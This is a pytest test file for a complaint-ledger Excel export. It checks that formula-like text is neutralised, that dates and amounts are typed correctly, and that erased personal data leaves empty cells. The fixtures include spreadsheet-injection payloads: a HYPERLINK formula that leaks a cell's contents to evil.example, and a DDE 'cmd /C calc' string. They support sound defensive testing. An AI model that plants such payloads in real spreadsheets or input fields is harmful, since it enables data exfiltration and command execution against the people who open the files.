"""The ledger workbook as Excel/WPS read it: typed cells, a usable header, and no formula from complainant text."""

from __future__ import annotations

import io
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet
from portal.adapters.ledger_xlsx import ledger_workbook
from portal.domain.ledger import LEDGER_COLUMNS
from portal.domain.reporting import CaseRecord
from portal.domain.working_days import CHINA_TZ

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&B2,"查看详情")'
HOSTILE_BUSINESS = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_DESCRIPTION = "\x00=1+1"  # the NUL must not survive, nor expose the formula

SETTLED = CaseRecord(
    tracking_no="TS-1234-5678-9012",
    received_at=datetime(2026, 3, 14, 16, 5, tzinfo=UTC),  # 2026-03-15 00:05 in Beijing
    status="closed",
    status_label="已结案",
    category="telecom",
    category_label="通信服务",
    issue_type="fraud",
    issue_type_label="虚假宣传",
    region="guangdong",
    region_label="广东省",
    business_name=HOSTILE_BUSINESS,
    product_name="5G 套餐",
    purchased_on=date(2026, 2, 20),
    amount=Decimal("199.00"),
    description=HOSTILE_DESCRIPTION,
    demands=("退款", "道歉"),
    accepted_at=datetime(2026, 3, 16, 10, 0, tzinfo=CHINA_TZ),
    closed_at=datetime(2026, 3, 25, 17, 30, tzinfo=CHINA_TZ),
    outcome="settled",
    outcome_label="调解成功",
    amount_recovered=Decimal("150.5"),
    overdue=False,
    satisfaction="satisfied",
    group_id=None,
    complainant_name=HOSTILE_NAME,
    complainant_phone="13912345678",
    complainant_email="li@example.com",
    handling_result="-经调解，商家退还套餐费 150.50 元",
)
ERASED = replace(
    SETTLED,
    tracking_no="TS-0000-0000-0000",
    received_at=datetime(2026, 3, 20, 9, 0, tzinfo=CHINA_TZ),
    status="submitted",
    status_label="已提交，等待受理",
    business_name="某某通信营业厅",
    description="普通描述",
    accepted_at=None,
    closed_at=None,
    outcome=None,
    outcome_label=None,
    amount_recovered=None,
    satisfaction=None,
    complainant_name=None,
    complainant_phone=None,
    complainant_email=None,
    handling_result=None,
)


@pytest.fixture(scope="module")
def sheet() -> Worksheet:
    data = ledger_workbook([ERASED, SETTLED], title="2026年3月投诉台账")
    workbook = load_workbook(io.BytesIO(data))
    assert workbook.properties.title == "2026年3月投诉台账"
    assert workbook.sheetnames == ["投诉台账"]
    worksheet = workbook["投诉台账"]
    assert isinstance(worksheet, Worksheet)
    return worksheet


def cells(sheet: Worksheet, row: int) -> dict[str, object]:
    return {key: sheet.cell(row=row, column=n).value for n, (key, _) in enumerate(LEDGER_COLUMNS, start=1)}


def test_the_header_row_is_bold_frozen_and_filterable(sheet: Worksheet) -> None:
    # Then the first row names the ledger fields, stays visible when scrolling and carries the filter buttons
    assert [cell.value for cell in sheet[1]] == [header for _, header in LEDGER_COLUMNS]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:T3"


def test_text_that_looks_like_a_formula_is_stored_as_text_with_an_apostrophe(sheet: Worksheet) -> None:
    # Given the settled complaint (oldest, so row 2) carries hostile text
    row = cells(sheet, 2)

    # Then no cell in the sheet is a formula, and each hostile value is plain text behind an apostrophe
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    assert row["complainant_name"] == "'" + HOSTILE_NAME
    assert row["business_name"] == "'" + HOSTILE_BUSINESS
    assert row["description"] == "'=1+1"
    assert row["handling_result"] == "'-经调解，商家退还套餐费 150.50 元"
    assert sheet.cell(row=2, column=3).data_type == "s"


def test_times_dates_and_amounts_are_real_excel_values(sheet: Worksheet) -> None:
    # Given the settled complaint
    row = cells(sheet, 2)
    column = {key: n for n, (key, _) in enumerate(LEDGER_COLUMNS, start=1)}

    # Then times are Beijing time, dates are dates and amounts are numbers, each with its display format
    assert row["received_at"] == datetime(2026, 3, 15, 0, 5)
    assert row["closed_at"] == datetime(2026, 3, 25, 17, 30)
    assert row["purchased_on"] == datetime(2026, 2, 20)  # Excel keeps no separate date type
    assert row["amount"] == pytest.approx(199.0)
    assert row["amount_recovered"] == pytest.approx(150.5)
    assert isinstance(row["amount"], int | float)
    assert sheet.cell(row=2, column=column["received_at"]).number_format == "yyyy-mm-dd hh:mm"
    assert sheet.cell(row=2, column=column["purchased_on"]).number_format == "yyyy-mm-dd"
    assert sheet.cell(row=2, column=column["amount"]).number_format == "0.00"
    assert sheet.cell(row=2, column=column["amount"]).data_type == "n"


def test_personal_data_and_labels_are_written_as_text(sheet: Worksheet) -> None:
    # Then the phone number stays text (no scientific notation) and labels replace codes
    row = cells(sheet, 2)
    assert row["complainant_phone"] == "13912345678"
    assert row["complainant_email"] == "li@example.com"
    assert (row["region"], row["category"], row["issue_type"]) == ("广东省", "通信服务", "虚假宣传")
    assert (row["demands"], row["status"], row["outcome"], row["satisfaction"]) == (
        "退款、道歉",
        "已结案",
        "调解成功",
        "满意",
    )


def test_erased_personal_data_leaves_empty_cells(sheet: Worksheet) -> None:
    # Given the later complaint whose personal data was erased
    row = cells(sheet, 3)

    # Then its personal and not-yet-known cells are empty
    assert row["tracking_no"] == "TS-0000-0000-0000"
    assert [row[key] for key in ("complainant_name", "complainant_phone", "complainant_email")] == [None] * 3
    assert [row[key] for key in ("closed_at", "amount_recovered", "handling_result")] == [None] * 3


def test_columns_are_wide_enough_for_chinese_text(sheet: Worksheet) -> None:
    # Then each column fits its header (two units per Chinese character) and none is absurdly wide
    for n, (_, header) in enumerate(LEDGER_COLUMNS, start=1):
        width = sheet.column_dimensions[get_column_letter(n)].width
        assert 2 * len(header) <= width <= 50
